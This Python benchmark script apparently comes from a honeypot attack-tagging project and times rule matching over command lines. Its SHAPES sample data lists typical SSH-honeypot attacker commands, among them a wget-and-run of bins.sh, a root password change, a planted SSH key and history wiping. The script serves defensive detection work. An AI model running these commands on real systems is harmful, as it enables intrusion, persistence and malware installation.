# SPDX-License-Identifier: AGPL-3.0-or-later
"""What matching costs: commands a second through a tagger, and the cost of a growing pack.

Run with `./dev bench matching` or `python benchmarks/matching.py [commands.txt]`; the file holds
one command a line, without it a mixture of our own is used. Figures are ratios within one run
wherever that is possible, since machines differ.
"""

from __future__ import annotations

import asyncio
import random
import sys
import time
from collections.abc import Callable, Sequence
from pathlib import Path

import re2

from decnet_ttp.attack import load_catalogue
from decnet_ttp.attack.catalogue import Catalogue
from decnet_ttp.matching import RulePack
from decnet_ttp.rule_store.loader import load_pack
from decnet_ttp.rule_store.vocabulary import Vocabulary
from decnet_ttp.tagger.evaluation import Evaluation
from decnet_ttp.tagger.lifters.rule_engine import RuleEngine
from decnet_ttp.tagger.rule_set import RuleSet
from decnet_ttp.v1 import event_pb2, rule_pb2, tagger_service_pb2

RULES = Path(__file__).resolve().parent.parent / "rules" / "ttp"
BATCH_EVENTS = 2_000

#: Shapes seen on any SSH honeypot, filled with changing numbers so that no two are equal.
SHAPES = (
    "uname -a",
    "cd /tmp || cd /var/run; wget http://198.51.100.{n}/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "cat /proc/cpuinfo | grep name | wc -l",
    'echo "root:{n}Xy"|chpasswd|bash',
    "ls -lh $(which ls)",
    "cat /etc/passwd",
    "free -m | grep Mem | awk '{{print $2 ,$3, $4, $5, $6, $7}}'",
    "crontab -l",
    "w",
    "/bin/busybox ECCHI{n}",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo ssh-rsa AAAAB3Nza{n} a >> .ssh/authorized_keys",
    "ps aux | grep -v grep | grep xmrig{n}",
    "export HISTFILE=/dev/null; history -c",
    "ls",
    "exit",
)


def commands(count: int, source: Path | None) -> list[str]:
    """Return command lines, from a file or of our own making."""
    if source is not None:
        lines = source.read_text(encoding="utf-8", errors="replace").splitlines()
        return [lines[n % len(lines)] for n in range(count)]
    chooser = random.Random(7)
    return [chooser.choice(SHAPES).format(n=n) for n in range(count)]


def events(texts: Sequence[str]) -> list[event_pb2.Event]:
    """Return one command event per text."""
    return [
        event_pb2.Event(
            source_kind="command",
            source_id=f"s#{number}",
            command=event_pb2.CommandPayload(command_text=text),
        )
        for number, text in enumerate(texts)
    ]


def requests(texts: Sequence[str]) -> list[bytes]:
    """Return encoded TagEvents requests, 2 000 events each, 10 a session."""
    made = events(texts)
    encoded = []
    for start in range(0, len(made), BATCH_EVENTS):
        request = tagger_service_pb2.TagEventsRequest()
        for at in range(start, min(start + BATCH_EVENTS, len(made)), 10):
            group = request.groups.add(origin_id=f"o{at}", session_id=f"s{at}")
            group.anchor.attacker_uuid = "6f9619ff-8b86-5d01-b42d-00cf4fc964ff"
            group.events.extend(made[at : at + 10])
        encoded.append(request.SerializeToString())
    return encoded


def best_of(runs: int, work: Callable[[], object]) -> float:
    """Return the shortest of several runs, in seconds of this process' own computing."""
    times = []
    for _ in range(runs):
        began = time.process_time()
        work()
        times.append(time.process_time() - began)
    return min(times)


def shipped(catalogue: Catalogue) -> list[rule_pb2.Rule]:
    """Return the rules of the repository."""
    return [each.message for each in load_pack([RULES], Vocabulary(catalogue)).rules]


def synthetic(count: int) -> list[rule_pb2.Rule]:
    """Return rules of the usual shapes over words that commands rarely hold."""
    chooser = random.Random(11)
    letters = "abcdefghijklmnopqrstuvwxyz"

    def word() -> str:
        return "".join(chooser.choices(letters, k=chooser.randint(5, 9)))

    rules = []
    for number in range(count):
        shape = chooser.choice(
            (r"(?m)^{} (?:\S+ )*-\w*{}\b", r"(?i)\b{}\b[^|;\n]*\s{}\b", r"(?m)^(?:{}|{})(?: |$)")
        )
        condition = rule_pb2.FieldCondition(
            fields=["command_lines"], pattern=shape.format(word(), word())
        )
        rules.append(
            rule_pb2.Rule(
                rule_id=f"S{number:04}",
                rule_version=1,
                applies_to=["command"],
                condition=rule_pb2.Condition(field=condition),
            )
        )
    return rules


def tagger_rate(texts: Sequence[str], catalogue: Catalogue) -> float:
    """Return commands a second through decoding, evaluation and encoding, on one core."""
    lifters = [RuleEngine()]
    rules = RuleSet.empty().changed(shipped(catalogue), (), lifters, catalogue)
    evaluation = Evaluation(lifters, attack_release=catalogue.attack_release)
    encoded = requests(texts)

    async def tag() -> None:
        for data in encoded:
            request = tagger_service_pb2.TagEventsRequest.FromString(data)
            (await evaluation.tag(request, rules)).SerializeToString()

    return len(texts) / best_of(3, lambda: asyncio.run(tag()))


def one_by_one(made: Sequence[event_pb2.Event], rules: Sequence[rule_pb2.Rule]) -> float:
    """Return seconds for the same rules with one search per pattern."""
    compiled = [re2.compile(rule.condition.field.pattern) for rule in rules]

    def work() -> None:
        for event in made:
            text = event.command.command_text
            for pattern in compiled:
                pattern.search(text)

    return best_of(1, work)


def main() -> None:
    """Print the figures."""
    source = Path(sys.argv[1]) if len(sys.argv) > 1 else None
    catalogue = load_catalogue()
    texts = commands(20_000, source)
    rate = tagger_rate(texts, catalogue)
    print(f"tagger, decode to encode, one core: {rate:,.0f} commands/s (target 15,000)")
    distinct = tagger_rate([f"{text}; x{n}" for n, text in enumerate(texts)], catalogue)
    print(f"the same with no two commands alike: {distinct:,.0f} commands/s")
    made = events(texts[:4_000])
    seconds = {}
    for count in (50, 500):
        rules = synthetic(count)
        pack = RulePack.compile(rules)
        seconds[count] = best_of(3, lambda pack=pack: [pack.evaluate(event) for event in made])
        alone = one_by_one(made[:500], rules) * len(made) / 500
        print(
            f"{count} rules: {seconds[count] / len(made) * 1e6:.1f} us a command; "
            f"one pattern at a time {alone / seconds[count]:.0f} times as long"
        )
    print(f"500 rules against 50: {seconds[500] / seconds[50]:.2f} times (target 1.5)")
    rules = synthetic(2_000)
    began = time.perf_counter()
    pack = RulePack.compile(rules)
    whole = time.perf_counter() - began
    rules[7].condition.field.pattern += "x"
    began = time.perf_counter()
    RulePack.compile(rules, pack)
    print(
        f"2,000 rules: {whole:.2f} s to compile, {time.perf_counter() - began:.2f} s after an edit"
    )


if __name__ == "__main__":
    main()
